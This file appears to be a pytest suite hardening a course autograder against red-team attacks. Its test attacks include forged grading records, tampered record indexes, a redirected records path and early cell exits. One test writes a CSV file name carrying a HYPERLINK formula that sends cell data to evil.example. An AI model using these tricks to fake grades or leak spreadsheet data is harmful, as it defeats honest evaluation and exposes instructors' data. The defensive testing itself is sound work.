"""Round 21 (fixer F): the record key a learner's function can change (G), formulas in scores.csv (G),
memory_mb's GGUF file (W) and vector_pair's overflowed product (W)."""
import contextlib
import csv
import io
import json
import os

import numpy as np
import pytest

import autograde
from helpers import grading
from helpers.geometry import compute as geometry
from helpers.real import compute as real
from helpers.sampling import checks

CELL, OTHER = "ch09_tempered", "ch09_greedy"
CHECKS = {5: CELL, 7: OTHER}   # the check cells' positions in the assembled notebook
check = checks.tempered_function


def right(logits, T):
    """A learner's right tempered(logits, T)."""
    logits = np.asarray(logits, dtype=float)
    if T == 0:
        top = logits == logits.max()
        return top / top.sum()
    e = np.exp((logits - logits.max()) / T)
    return e / e.sum()


def wrong(logits, T):
    """A learner's wrong one: uniform."""
    return np.ones(len(logits)) / len(logits)


@pytest.fixture
def recording(tmp_path, monkeypatch):
    """The record run's setting in this process: its records file (a path)."""
    path = tmp_path / "records.jsonl"
    path.write_text("")
    monkeypatch.setenv("COURSE_GRADING", f"record:{path}")
    monkeypatch.setitem(grading.STATE, "cell", None)
    monkeypatch.setitem(grading.STATE, "index", 0)
    return path


def forged_line():
    """The right answer's record for (CELL, 0), made with the course's own Recorder (as a student's earlier cell can)."""
    recorder = grading.Recorder(right)
    check.feedback(recorder)
    return json.dumps({"cell": CELL, "index": 0, "check": check.title, "answer": {"function": recorder.calls}}) + "\n"


def check_cell(path, answer):
    """The check cell as the grader runs it (its marker, the visible check, the hidden test), in this
    process: (the lines it appended to the records file, whether it stopped with an error)."""
    failed = False
    grading.cell(CELL)
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            check(answer)
        check.grade(answer)
    except BaseException:   # noqa: BLE001 (as nbclient sees a cell that raised, SystemExit too)
        failed = True
    return path.read_text(), failed


def judged(tmp_path, monkeypatch, text, failed):
    """The problems the grader gives CELL for ``text`` written while its check cell ran: attributed by the
    driver, read by read_records, judged by autograde.judge (its run made here: one grade call, as the
    instructor's cell makes). Returns (problems, notes)."""
    kept = autograde.attributed(json.dumps({"at": 5, "lines": text, "cut": False, "failed": failed}) + "\n", CHECKS)
    path = tmp_path / "kept.jsonl"
    path.write_text("".join(kept))
    notes = []
    records = autograde.read_records(path, [CELL, OTHER], notes)
    monkeypatch.setattr(autograde, "judge_notebook", lambda chapter: None)
    monkeypatch.setattr(autograde, "run", judge_run)
    monkeypatch.setattr(grading, "_LOADED", {})
    problems = autograde.judge(type("Chapter", (), {"stem": "09_sampling"}), {"eve": records}, tmp_path)
    return problems["eve"].get(CELL), notes


def judge_run(nb, folder, setting, files=None, **_):
    """The judge's run, in this process: the instructor's check cell for CELL, with its one grade call."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in (files or {}).items():
        (folder / name).write_text(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COURSE_GRADING", setting.format(folder=folder))
        patch.setitem(grading._SEALED, "mode", None)   # (a judge run seals no record mode)
        grading.cell(CELL)
        check.grade(right)
    return "ran to the end", None


def attack(path, then):
    """A learner's tempered whose first call (in the visible check) appends the forged right record, then
    does ``then()``; it answers wrong."""
    done = []

    def tempered(logits, T):
        if not done:
            done.append(1)
            with open(path, "a") as file:
                file.write(forged_line())
            then()
        return wrong(logits, T)
    return tempered


def the_course_s(recording, tmp_path, monkeypatch, answer):
    return judged(tmp_path, monkeypatch, *check_cell(recording, answer))


# ---------------------------------------------------------------- 1 (G): a record key nothing trusts


def test_honest_answers_are_judged_as_before(recording, tmp_path, monkeypatch):
    """No false alarm: the order, name and asked-for rules pass the course's own records."""
    assert the_course_s(recording, tmp_path, monkeypatch, right) == ([], [])
    recording.write_text("")
    said, notes = the_course_s(recording, tmp_path, monkeypatch, wrong)
    assert said and "could not be judged" not in said[0] and notes == []


ATTACKS = {   # what the learner's function does after appending the forged record (red team B 5 and its kin)
    "STATE index 7 (B 5)": lambda: grading.STATE.__setitem__("index", 7),
    "STATE index 1": lambda: grading.STATE.__setitem__("index", 1),
    "STATE index 30": lambda: grading.STATE.__setitem__("index", 30),
    "STATE cell another check's": lambda: grading.STATE.__setitem__("cell", OTHER),
    "grading.cell(another check's)": lambda: grading.cell(OTHER),
    "STATE index not a number (the hidden test then raises)": lambda: grading.STATE.__setitem__("index", "x"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_forged_record_and_a_changed_record_key_score_nothing(recording, tmp_path, monkeypatch, name):
    """Red team B 5: the learner's function, run by the visible check, appended a forged right record
    for (cell, 0) and set helpers.grading.STATE["index"] = 7; the genuine (wrong) record landed at 7, which
    the judge never reads, and the forged one was judged right, with no note."""
    said, notes = the_course_s(recording, tmp_path, monkeypatch, attack(recording, ATTACKS[name]))
    assert said and autograde.TAMPERED in said[0], said
    assert any(note.startswith(f"{CELL}: more than one answer") for note in notes) or said == [autograde.TAMPERED]


def test_a_grade_call_the_learner_s_function_makes_itself_scores_nothing(recording, tmp_path, monkeypatch):
    """No forged line at all: the learner's function calls the check's own grade with a right function, so
    the genuine record of the right answer is index 0, and the hidden test's (wrong) one index 1."""
    done = []

    def tempered(logits, T):
        if not done:
            done.append(1)
            check.grade(right)
        return wrong(logits, T)
    said, _ = the_course_s(recording, tmp_path, monkeypatch, tempered)
    assert said == [autograde.TAMPERED]


def test_a_changed_record_mode_is_seen_and_records_still_go_to_the_run_s_file(recording, tmp_path, monkeypatch):
    """COURSE_GRADING is read when helpers.grading is imported (the grader's first cell): a student's earlier
    cell that points it at /dev/null (the check puts back what its own call changes) cannot lose the genuine
    record while their function forges one."""
    monkeypatch.setitem(grading._SEALED, "mode", ("record", str(recording)))
    monkeypatch.setenv("COURSE_GRADING", "record:/dev/null")   # the student's earlier cell
    said, notes = the_course_s(recording, tmp_path, monkeypatch, attack(recording, lambda: None))
    assert said and "could not be judged" in said[0]
    assert any(CELL in note and "COURSE_GRADING" in note for note in notes), notes
    monkeypatch.setenv("COURSE_GRADING", "")
    assert grading.mode() == ("record", str(recording))


def test_the_driver_reports_a_cell_that_stopped_with_an_error(tmp_path):
    """Attributor: the records a cell wrote before it raised (or crashed, or timed out) are reported "failed"."""
    out = io.StringIO()
    attributor = autograde.Attributor(True, out)   # (round 25: records come on a channel, no longer a file)
    attributor.start(cell_index=5)
    attributor.kernel_end.sendall((json.dumps({"cell": CELL, "index": 0, "check": "t", "answer": 1}) + "\n").encode())
    attributor.error(cell_index=5)
    attributor.start(cell_index=6)
    attributor.flush()
    report = out.getvalue()
    assert json.loads(report.splitlines()[0])["failed"] is True
    assert json.dumps({"unsound": CELL}) + "\n" in autograde.attributed(report, CHECKS)


@pytest.mark.parametrize("ending, counts", [("raise SystemExit(0)", False), ("import os; os._exit(0)", False),
                                            ("pass", False)])   # (since round 30 a record the course did not write
                                                                # counts for nothing even when the cell ends)
def test_a_check_cell_that_records_and_then_stops_counts_for_nothing(tmp_path, ending, counts):
    """In a real kernel (autograde.run, unfenced): a check cell whose code appends a right record and then
    stops (exit, or the process ends) before its hidden test could record the genuine answer."""
    import nbformat

    forged = json.dumps({"cell": "ch00_ex3_check", "index": 0, "check": "t", "answer": 7087872})
    cell = nbformat.v4.new_code_cell(f"import os\nos.write(int(os.environ['COURSE_RECORDS_FD']), "   # (round 25: a channel)
                                     f"({forged!r} + '\\n').encode())\n{ending}")
    cell.metadata[autograde.CHECK] = "ch00_ex3_check"
    folder = tmp_path / "run"
    autograde.run(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1"), cell]), folder,
                  "record:{folder}/records.jsonl", timeout=300, cell_timeout=120)
    records = autograde.read_records(folder / "records.jsonl", ["ch00_ex3_check"], [])
    assert [r["answer"] for r in records] == [7087872 if counts else {"unknown": autograde.TAMPERED}]


def test_read_records_counts_a_record_past_the_indexes_it_reads_as_tampering(tmp_path):
    path = tmp_path / "records.jsonl"
    path.write_text(json.dumps({"cell": CELL, "index": 0, "check": "t", "answer": "right"}) + "\n"
                    + json.dumps({"cell": CELL, "index": autograde.MAX_RECORD_INDEX, "check": "t", "answer": "x"}) + "\n")
    notes = []
    records = autograde.read_records(path, [CELL], notes)
    assert records == [{"cell": CELL, "index": 0, "answer": {"unknown": autograde.TAMPERED}}]
    assert notes and notes[0].startswith(f"{CELL}: more than one answer")


# ---------------------------------------------------------------- 2 (G): scores.csv holds no formula


def test_scores_csv_cells_never_start_a_formula(tmp_path):
    """Red team B 7: a notebook named '=HYPERLINK(...).ipynb' put a live formula into the instructor's sheet."""
    name = '=HYPERLINK("http://evil.example/?"&A2,"open me").ipynb'
    table = [dict(student="@alice", chapter="09_sampling", score=3, max_score=3, ch09_tempered_check=3, file=name,
                  notes=f"+graded as 09_sampling (the file is named {name})", fence="", why={}, submission=None),
             dict(student="-bob", chapter="?", score=-1, max_score=0, file="\t=1+1.ipynb", notes="", fence="",
                  why={}, submission=None)]
    autograde.write_csv(table, tmp_path / "scores.csv")
    with open(tmp_path / "scores.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or cell[:1] == "-" and cell != "-1"]
    assert rows[0]["file"] == "'" + name and rows[0]["student"] == "'@alice" and rows[1]["score"] == "-1"
    assert autograde.inert("alice") == "alice" and autograde.inert("o'brien") == "o'brien"


# ---------------------------------------------------------------- 3 (W): memory_mb reads a GGUF file only


@pytest.mark.parametrize("content, words", [
    (b"", ["holds 0 bytes"]),
    (b"x" * 104, ["starting with b'GGUF'", "b'xxxxxxxx'"]),
    (b"GGUF" + bytes(100), ["version 2 or 3"]),
    (b"GGUF" + (3).to_bytes(4, "little") + bytes(16), ["with tensors"]),
])
def test_memory_mb_refuses_a_file_that_is_no_gguf(tmp_path, refused, content, words):
    """Red team B 8: an empty file, 104 bytes of junk or /proc/self/mem was "the GGUF file on disk: 0.0 MB"."""
    path = tmp_path / "model.gguf"
    path.write_bytes(content)
    refused(lambda: real.memory_mb(None, path), "path should name the model's GGUF file on disk", *words)


def test_memory_mb_refuses_an_unreadable_file_and_takes_the_real_one(refused):
    if os.path.exists("/proc/self/mem"):
        refused(lambda: real.memory_mb(None, "/proc/self/mem"), "cannot be read")
    from helpers.real import smollm2
    model, _ = real.load()
    assert real.memory_mb(model, smollm2.gguf_path())["file"] == pytest.approx(os.path.getsize(smollm2.gguf_path()) / 1e6)


# ---------------------------------------------------------------- 4 (W): vector_pair names the true product


@pytest.mark.parametrize("norm_a, norm_b, product", [(1e154, 1e155, "about 1e+309"), (1e-162, 1e-162, "about 1e-324"),
                                                     (1.7e308, 1.7e308, "about 2.89e+616"), (1e-160, 1e-160, "about 1e-320")])
def test_vector_pair_names_the_product_that_does_not_fit(refused, norm_a, norm_b, product):
    """Red team A 2: the sentence said the norms "give inf" (or "give 0"): the overflowed float, not their product."""
    message = refused(lambda: geometry.vector_pair(norm_a=norm_a, norm_b=norm_b), "norm_a × norm_b should be", product)
    assert "give inf" not in message and "give 0" not in message
    assert geometry.vector_pair(norm_a=1e150, norm_b=1e150)["cos"] == pytest.approx(np.cos(np.radians(50)))

